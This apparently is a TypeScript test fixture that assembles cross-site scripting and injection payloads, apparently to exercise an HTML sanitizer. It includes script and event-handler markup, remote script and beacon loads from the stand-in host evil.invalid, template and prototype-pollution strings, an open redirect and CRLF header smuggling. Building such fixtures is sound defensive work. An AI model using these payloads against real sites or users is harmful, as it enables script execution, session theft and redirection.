/** Texts that became code or a request somewhere: as elements, attributes, addresses, templates, and by repairs of parsers. */

const EVIL = 'http://evil.invalid';
const CALL = 'globalThis.ran=1,alert(1)';

const MARKUP = [
  `<script>${CALL}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=${EVIL}/beacon.png>`,
  `<svg onload="${CALL}">`,
  `<svg><script href="data:,${CALL}" /></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${CALL}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src="javascript:${CALL}">`,
  `<object data="${EVIL}/x"></object>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<style>@import '${EVIL}/x.css'</style>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action=${EVIL}><button autofocus onfocus="${CALL}">`,
  `<input autofocus onfocus="${CALL}">`,
  `<details open ontoggle="${CALL}">`,
  `<body onload="${CALL}">`,
  `<template><img src=x onerror="${CALL}"></template>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `//evil.invalid/${CALL}`,
  `\${${CALL}} {{constructor.constructor('${CALL}')()}}`,
  `&lt;img src=x onerror=${CALL}&gt; &#60;script&#62;`,
  '__proto__',
  '../../../login?to=//evil.invalid',
];

/** Ways out of where a value may stand: text, attributes in either quotes, comments, titles, scripts. */
const ESCAPES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<!--`,
  (text) => `</title></option></select></script>${text}`,
  (text) => `\u202e\u0000\u001b]8;;${EVIL}\u0007\ud800${text}\r\nset-cookie: a=b`,
];

export const HOSTILE: readonly string[] = ESCAPES.flatMap((out) => MARKUP.map(out));
